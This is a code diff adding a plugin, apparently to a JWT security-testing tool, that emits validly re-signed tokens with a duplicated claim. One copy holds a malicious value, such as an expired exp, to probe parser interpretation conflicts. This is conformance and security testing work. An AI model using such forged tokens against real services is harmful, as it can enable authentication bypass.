@@ -0,0 +1,137 @@
+/**
+ * Duplicate Claims Attack
+ *
+ * Emits a JWT payload with the same claim twice: the token's real value
+ * and a malicious one. JSON parsers disagree on duplicate members - most
+ * keep the last, some the first, a strict few reject the object - so a
+ * validator and the code that later reads the claims can each see a
+ * different value. The payload is rendered by hand (a JSON object can't
+ * hold duplicates) and re-signed over the exact bytes, so the duplicate
+ * is the only reason left to reject the token.
+ *
+ * The rest of the payload is the claims as they stood when this plugin
+ * ran; claims mischief applied after it doesn't reach the emitted token.
+ *
+ * Config:
+ * - claim: the claim to duplicate (default: exp); the token must carry it
+ * - value: the malicious value (default for exp: an hour ago; required otherwise)
+ * - order: "valid-first" (default; last-wins parsers see the malicious value)
+ *   or "malicious-first"
+ *
+ * Spec: RFC 7519 Section 4 - claim names MUST be unique; parsers MUST
+ * either reject duplicates or use the lexically last one
+ * CWE-436: Interpretation Conflict
+ */
+
+import type { MischiefPlugin } from "../types.js";
+
+type DuplicateOrder = "valid-first" | "malicious-first";
+
+const ORDERS: DuplicateOrder[] = ["valid-first", "malicious-first"];
+
+export const duplicateClaims: MischiefPlugin = {
+	id: "duplicate-claims",
+	name: "Duplicate Claims",
+	severity: "high",
+	phase: "token-claims",
+
+	spec: {
+		rfc: "RFC 7519 Section 4",
+		cwe: "CWE-436",
+		description: "JWT claim names MUST be unique within a claims set",
+	},
+
+	description: "Emits a claim twice, one valid and one malicious value, validly signed",
+
+	options: [
+		{
+			name: "claim",
+			type: "string",
+			default: "exp",
+			description: "The claim duplicated; the token must carry it",
+		},
+		{
+			name: "value",
+			type: ["string", "number", "boolean", "array", "object"],
+			description: "The malicious value (default for exp: an hour ago; required otherwise)",
+		},
+		{
+			name: "order",
+			type: "string",
+			values: ["valid-first", "malicious-first"],
+			default: "valid-first",
+			description: "Which value comes first in the payload",
+		},
+	],
+
+	async apply(ctx) {
+		if (!ctx.token) {
+			return { applied: false, mutation: "No token context", evidence: {} };
+		}
+		if (!ctx.token.resign) {
+			return { applied: false, mutation: "Signing key not available", evidence: {} };
+		}
+
+		const claim = ctx.config.claim ?? "exp";
+		if (typeof claim !== "string" || claim === "") {
+			return { applied: false, mutation: "claim must be a non-empty string", evidence: {} };
+		}
+		const order = (ctx.config.order as DuplicateOrder | undefined) ?? "valid-first";
+		if (!ORDERS.includes(order)) {
+			return {
+				applied: false,
+				mutation: `Unknown order: ${order}`,
+				evidence: { order },
+			};
+		}
+
+		const { claims } = ctx.token;
+		if (!(claim in claims)) {
+			return {
+				applied: false,
+				mutation: `Token has no '${claim}' claim to duplicate`,
+				evidence: { claim },
+			};
+		}
+		const validValue = claims[claim];
+		const maliciousValue =
+			ctx.config.value ?? (claim === "exp" ? Math.floor(Date.now() / 1000) - 3600 : undefined);
+		if (maliciousValue === undefined) {
+			return {
+				applied: false,
+				mutation: `value is required to duplicate '${claim}'`,
+				evidence: { claim },
+			};
+		}
+
+		const members = Object.entries(claims).map(([name, value]) => member(name, value));
+		const duplicate = member(claim, maliciousValue);
+		if (order === "valid-first") {
+			members.push(duplicate);
+		} else {
+			members.unshift(duplicate);
+		}
+
+		const emittedPayload = `{${members.join(",")}}`;
+		const first = order === "valid-first" ? "valid" : "malicious";
+		ctx.token.rawPayload = emittedPayload;
+		await ctx.token.resign();
+
+		return {
+			applied: true,
+			mutation: `Emitted '${claim}' twice, ${first} value first`,
+			evidence: {
+				claim,
+				validValue,
+				maliciousValue,
+				order,
+				emittedPayload,
+				signatureValid: true,
+			},
+		};
+	},
+};
+
+function member(name: string, value: unknown): string {
+	return `${JSON.stringify(name)}:${JSON.stringify(value)}`;
+}